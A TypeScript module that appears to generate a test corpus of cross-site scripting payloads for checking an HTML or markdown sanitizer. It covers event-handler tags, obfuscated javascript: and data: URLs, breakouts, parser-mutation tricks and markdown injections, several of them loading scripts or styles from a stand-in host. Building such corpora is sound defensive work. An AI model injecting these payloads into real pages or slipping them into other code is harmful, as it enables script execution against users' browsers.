/** What somebody may write to have a page run it, put together by class. What runs calls `alert`; what loads asks ELSEWHERE. */
export const ELSEWHERE = 'https://elsewhere.example';

const RUN = 'alert(1)';
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerover',
  'onclick',
];
const HOLDERS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe src=x',
  'object data=x',
  'a href=x tabindex=1 autofocus',
  'b style="animation:x 1s"',
  'math',
];
/** Ways to part and to quote an attribute. */
const WRITTEN = [
  (tag: string, handler: string) => `<${tag} ${handler}=${RUN}>`,
  (tag: string, handler: string) => `<${tag} ${handler}="${RUN}">`,
  (tag: string, handler: string) => `<${tag.toUpperCase()} ${handler.toUpperCase()}='${RUN}'>`,
  (tag: string, handler: string) => `<${tag.replace(' ', '/')}/${handler}=${RUN}//`,
  (tag: string, handler: string) => `<${tag}\t${handler}\t=\t${RUN} x`,
  (tag: string, handler: string) => `<${tag} ${handler}=&#97;lert&lpar;1)>`,
  (tag: string, handler: string) => `<${tag} x="'>" ${handler}=${RUN}>`,
];
const handlers = HOLDERS.flatMap((holder, n) =>
  HANDLERS.map((handler, m) => WRITTEN[(n + m) % WRITTEN.length]!(holder, handler)),
);

/** Spellings of addresses that run. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript&#58;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript:%61lert(1)`,
  `javascript://https://a.example/%0A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `feed:javascript:${RUN}`,
];
/** Places of an address. */
const LINKS = [
  (to: string) => `[a](${to})`,
  (to: string) => `[a](<${to}>)`,
  (to: string) => `![a](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[a][b]\n\n[b]: ${to}`,
  (to: string) => `<a href="${to}">a</a>`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<form action="${to}"><button>a</button></form>`,
  (to: string) => `<button formaction="${to}">a</button>`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<embed src="${to}">`,
  (to: string) => `<svg><a xlink:href="${to}"><text>a</text></a></svg>`,
  (to: string) => `<base href="${to}">`,
  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to: string) => `<link rel="stylesheet" href="${to}">`,
  (to: string) => `<math href="${to}">a</math>`,
];
// Each address at three places, each place with each kind of spelling.
const links = ADDRESSES.flatMap((to, n) => [0, 5, 11].map((step) => LINKS[(n + step) % LINKS.length]!(to)));

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
];

/** What ends the element or the attribute that it is put into. */
const breakOuts = [
  ...['title', 'style', 'textarea', 'script', 'noscript', 'template', 'xmp', 'a', 'h1', 'svg'].map(
    (name) => `</${name}><script>${RUN}</script>`,
  ),
  ...['"', "'", '`', '">', "'>", '-->', ']]>', '*/', '\\"', '\u2028'].flatMap((end) => [
    `${end}<img src=x onerror=${RUN}>`,
    `${end} autofocus onfocus=${RUN} tabindex=1 x=${end}`,
  ]),
  `\${${RUN}}`,
  `{${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
];

/** What one parser reads in one way and the next in another. */
const mutations = [
  `<svg><style><img title="</style><img src onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><img src onerror=${RUN}>">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe><p title="</iframe><img src onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src onerror=${RUN}>"></textarea>`,
  `<!--><img src onerror=${RUN}>-->`,
  `<!--!><img src onerror=${RUN}>--!>`,
  `<![CDATA[><img src onerror=${RUN}>]]>`,
  `<?x ><img src onerror=${RUN}>?>`,
  `<!DOCTYPE x [<!ENTITY a "<img src onerror=${RUN}>">]>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a>a</a></svg>`,
  `<svg><set attributeName=onload to=${RUN} /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<select><style></select><script>${RUN}</script>`,
  `<b <script>${RUN}</script>`,
  `<a href="https://a.example/" <img src=x onerror=${RUN}>>a</a>`,
  `<plaintext><script>${RUN}</script>`,
];

const styles = [
  `<style>@import '${ELSEWHERE}/a.css';</style>`,
  `<p style="background:url(${ELSEWHERE}/a.png)">a</p>`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  `<b style="animation-name:x" onanimationend=${RUN}>a</b>`,
  `<img src=${ELSEWHERE}/a.png srcset="${ELSEWHERE}/b.png 2x">`,
  `<video poster=${ELSEWHERE}/a.png>`,
  `<input type=image src=${ELSEWHERE}/a.png>`,
  `<body background=${ELSEWHERE}/a.png>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<link rel=prefetch href=${ELSEWHERE}/a>`,
  `<iframe src=${ELSEWHERE}></iframe>`,
];

const markdown = [
  `[<img src=x onerror=${RUN}>](https://a.example/)`,
  `[a](https://a.example/"onclick="${RUN})`,
  `[a](https://a.example/ "\\" onclick=${RUN} x=\\"")`,
  `<https://a.example/"onmouseover="${RUN}>`,
  `https://a.example/"onmouseover="${RUN}`,
  `[a](mailto:a@b.example?"onclick="${RUN})`,
  `# <img src=x onerror=${RUN}>`,
  `- <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
  '```"><script>alert(1)</script>\na\n```',
  `    <script>${RUN}</script>`,
  '`<script>alert(1)</script>`',
  `**<img src=x onerror=${RUN}>**`,
  `a[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `a[^<img/src=x/onerror=${RUN}>]`,
  `[a](person:"><img/src=x/onerror=${RUN}>)`,
  `[a](time:"onclick="${RUN})`,
  `![<img src=x onerror=${RUN}>](a.jpg "<img src=x onerror=${RUN}>")`,
  `\\<img src=x onerror=${RUN}>`,
  `<a href="https://a.example/">[a](javascript:${RUN})</a>`,
  `[a](javascript:${RUN}//<a href="https://a.example/">b</a>)`,
];

/** Each once. */
export const attacks: readonly string[] = [
  ...new Set([...scripts, ...handlers, ...links, ...breakOuts, ...mutations, ...styles, ...markdown]),
];
